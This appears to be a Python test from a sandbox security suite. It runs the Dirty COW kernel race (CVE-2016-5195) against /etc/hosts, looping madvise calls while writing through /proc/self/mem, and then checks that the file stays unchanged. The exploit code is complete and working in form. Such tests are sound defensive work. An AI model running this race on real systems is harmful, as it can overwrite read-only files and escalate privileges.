# Group: kernel
# Tries: write to a mapping that is to be copied, while it is thrown away, by /proc/self/mem.
# Idea: CVE-2016-5195 ("Dirty COW"), here against a file that is this sandbox's own.
# Outcome: the file stays.
import ctypes
import mmap
import os
import threading
import time

from attack import check, held, libc, name_of

PATH = "/etc/hosts"
file = os.open(PATH, os.O_RDONLY)
before = os.pread(file, 4096, 0)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
address = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, file, 0)
end = time.monotonic() + 0.6


def advise():
    while time.monotonic() < end:
        libc.madvise(address, 4096, 4)


thread = threading.Thread(target=advise)
thread.start()
try:
    memory = os.open("/proc/self/mem", os.O_RDWR)
    while time.monotonic() < end:
        os.pwrite(memory, b"6.6.6.6 host", address)
except OSError as error:
    held("no writing by it: " + name_of(error.errno))
thread.join()
after = os.pread(os.open(PATH, os.O_RDONLY), 4096, 0)
check("the file is as before", before == after, after)
